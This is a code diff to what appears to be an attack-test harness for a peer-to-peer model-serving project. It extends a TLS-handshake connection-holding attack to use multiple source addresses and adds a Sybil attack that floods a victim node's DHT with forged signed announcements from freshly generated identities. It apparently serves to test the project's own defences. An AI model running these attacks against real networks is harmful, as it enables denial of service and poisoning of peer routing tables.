@@ -185,16 +185,18 @@ def expensive(args: argparse.Namespace) -> None:
 
 
 def hold(args: argparse.Namespace) -> None:
-    """Open ``count`` TCP connections from ``source`` that never finish the TLS handshake, print
-    HELD, hold them until stdin closes, and report how many the victim had already closed."""
+    """Open ``count`` TCP connections from ``source`` (from each of ``sources``, if given) that never
+    finish the TLS handshake, print HELD, hold them until stdin closes, and report how many the
+    victim had already closed."""
     parts = urlsplit(args.endpoint)
     socks = []
-    for _ in range(args.count):
-        try:
-            socks.append(socket.create_connection((parts.hostname, parts.port), timeout=5,
-                                                  source_address=(args.source, 0)))
-        except OSError:
-            break
+    for source in (args.sources or args.source).split(","):
+        for _ in range(args.count):
+            try:
+                socks.append(socket.create_connection((parts.hostname, parts.port), timeout=5,
+                                                      source_address=(source, 0)))
+            except OSError:
+                break
     out({"opened": len(socks)})
     sys.stdin.readline()  # the test measures the victim, then closes our stdin
     closed = 0
@@ -377,6 +379,51 @@ def dht_flood(args: argparse.Namespace) -> None:
     out(asyncio.run(main()))
 
 
+def dht_sybils(args: argparse.Namespace) -> None:
+    """From one address (``--source``, bound by patching trio's dialer) and one connection, store
+    one signed announcement under each of ``keys`` fresh keys at the victim."""
+    import trio
+
+    from moeswarm.net.p2p import P2PConfig, P2PNode
+    from moeswarm.protocol import announcement_key, sign_announcement
+
+    open_tcp_stream = trio.open_tcp_stream
+
+    async def from_source(host: str, port: int, **kwargs: Any) -> Any:
+        return await open_tcp_stream(host, port, local_address=args.source, **kwargs)
+
+    trio.open_tcp_stream = from_source  # type: ignore[assignment]
+
+    async def main() -> dict[str, Any]:
+        now = int(time.time() * 1000)
+        jobs = []
+        for _ in range(args.keys):
+            sybil = Identity.generate()
+            jobs.append((announcement_key(args.model, 0, sybil.peer_id), encode(sign_announcement(
+                sybil, model_id=args.model, layers=(0, 0), experts=(0, 7), endpoints=("tcp+tls://127.0.0.9:1",),
+                capacity_bytes=1, throughput=1, load_permille=0, software="attacker", seq=1,
+                expires_at_ms=now + 3_600_000))))
+        async with P2PNode(Identity.generate(), P2PConfig(bootstrap=(args.bootstrap,), client_mode=True)) as node:
+            from libp2p.peer.id import ID
+
+            victim = ID.from_base58(args.bootstrap.rsplit("/", 1)[-1])
+            stored, t0 = 0, time.monotonic()
+            for start in range(0, len(jobs), 100):
+                batch = jobs[start:start + 100]
+
+                async def put(batch: list[tuple[str, bytes]] = batch) -> int:
+                    ok = 0
+                    for key, value in batch:
+                        ok += bool(await node._dht.value_store._store_at_peer(victim, key.encode(), value))
+                    return ok
+
+                stored += await node._call(put)
+            return {"keys": len(jobs), "stored": stored,
+                    "seconds": round(time.monotonic() - t0, 1)}
+
+    out(asyncio.run(main()))
+
+
 # ---------------------------------------------------------------- attack 9: the HTTP API
 
 
@@ -425,6 +472,7 @@ def main() -> None:
     p = sub.add_parser("hold")
     p.add_argument("endpoint")
     p.add_argument("--source", default="127.0.0.2")
+    p.add_argument("--sources", default="", help="comma-separated source addresses (instead of --source)")
     p.add_argument("--count", type=int, default=300)
     p.set_defaults(fn=hold)
     p = sub.add_parser("slow-frame")
@@ -458,6 +506,12 @@ def main() -> None:
     p.add_argument("bootstrap")
     p.add_argument("--writes", type=int, default=1500)
     p.set_defaults(fn=dht_flood)
+    p = sub.add_parser("dht-sybils")
+    p.add_argument("bootstrap")
+    p.add_argument("--keys", type=int, default=1000)
+    p.add_argument("--model", default="honest/model")
+    p.add_argument("--source", default="127.0.0.2")
+    p.set_defaults(fn=dht_sybils)
     p = sub.add_parser("http")
     p.add_argument("url")
     p.add_argument("--timeout", type=float, default=30.0)
